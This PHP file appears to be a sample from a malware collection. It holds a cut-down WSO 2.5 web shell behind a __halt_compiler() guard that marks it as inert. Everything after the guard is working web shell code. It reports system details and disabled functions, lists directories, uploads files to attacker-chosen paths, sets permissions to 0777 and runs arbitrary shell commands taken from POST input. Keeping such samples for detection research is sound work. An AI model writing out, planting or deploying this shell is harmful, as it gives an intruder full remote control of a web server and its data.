<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
/* WSO 2.5 */
@error_reporting(0);
@set_time_limit(0);
@ignore_user_abort(1);
$default_action = 'FilesMan';
function wsoHeader() { echo '<b>Uname:</b> ' . php_uname() . '<br><b>User:</b> ' . getmyuid() . ' (' . (function_exists('posix_getpwuid') ? posix_getpwuid(posix_geteuid())['name'] : '?') . ')'; echo '<b>Disabled:</b> ' . ini_get('disable_functions'); echo ' Free: ' . disk_free_space('/'); }
function actionFilesMan() { $dir = isset($_POST['c']) ? $_POST['c'] : getcwd(); foreach (scandir($dir) as $f) { echo htmlspecialchars($f) . '<br>'; } if (!empty($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_POST['c'] . '/' . $_FILES['f']['name']); } if (isset($_POST['p1'])) { @chmod($_POST['p1'], 0777); } }
function actionConsole() { if (!empty($_POST['shell'])) { echo '<pre>' . shell_exec($_POST['x'] . ' 2>&1') . '</pre>'; } }
wsoHeader();
if (empty($_POST['a'])) $_POST['a'] = $default_action;
call_user_func('action' . $_POST['a']);
